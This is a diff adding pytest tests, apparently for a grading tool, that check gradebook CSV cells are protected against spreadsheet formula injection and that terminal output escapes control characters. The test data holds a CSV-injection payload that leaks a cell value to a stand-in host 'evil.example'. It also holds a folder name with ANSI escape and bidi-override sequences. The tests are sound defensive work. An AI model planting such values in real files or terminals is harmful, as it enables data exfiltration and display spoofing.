@@ -1,0 +1,50 @@
+"""gradebook.csv opened in a spreadsheet: no student id becomes a formula, scores stay numbers."""
+
+from __future__ import annotations
+
+import csv
+
+import pytest
+
+from grader import kit
+from grader.batch import BatchOptions, grade_batch
+from grader.curriculum import of_module
+from grader.gradebook import format_table, spreadsheet_text
+
+FORMULA_IDS = ['=HYPERLINK("evil.example?leak="&B2,"open")', "+1", "-x", "@SUM(A1:A9)", "\tx", "\r=1", " =1+1"]
+
+
+@pytest.mark.parametrize("student", FORMULA_IDS)
+def test_a_student_id_that_would_start_a_formula_gets_a_leading_apostrophe(student):
+    assert spreadsheet_text(student) == "'" + student
+
+
+@pytest.mark.parametrize("student", ["ann", "o'brien", "x=1", "1+1", "a-b", "mail@example.org"])
+def test_other_ids_are_kept_as_they_are(student):
+    assert spreadsheet_text(student) == student
+
+
+def test_the_gradebook_of_a_batch_with_formula_ids_has_no_formula_cell(tmp_path):
+    """Attack: ids like `=HYPERLINK(...)`, `+1`, `-x`, `@SUM` were written as they are and ran as formulas."""
+    students = [student for student in FORMULA_IDS if "\r" not in student] + ["ann"]  # "\r" is no folder name here
+    for student in students:
+        (tmp_path / "subs" / student).mkdir(parents=True)
+        (tmp_path / "subs" / student / "derivatives.py").write_text(kit.solution_source("derivatives"))
+    grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
+    points = sum(exercise.points for exercise in of_module("derivatives"))
+    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as stream:
+        rows = list(csv.reader(stream))[1:]
+    assert sorted(row[0] for row in rows) == sorted(spreadsheet_text(student) for student in students)
+    for row in rows:
+        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", " "))
+        assert float(row[1]) == float(row[2]) == points  # numbers stay numbers: no apostrophe on a score
+        assert all(cell == "" or float(cell) >= 0 for cell in row[3:])
+
+
+def test_the_terminal_table_escapes_control_characters_and_undecodable_bytes(tmp_path):
+    hostile = "eve\x1b[2J\x1b]0;owned\x07\u202e" + b"\xff".decode("utf-8", "surrogateescape")
+    (tmp_path / "subs" / hostile).mkdir(parents=True)
+    summary = grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
+    table = format_table(summary.results)
+    assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
+    assert "eve\\x1b[2J\\x1b]0;owned\\x07\\u202e\\xff" in table
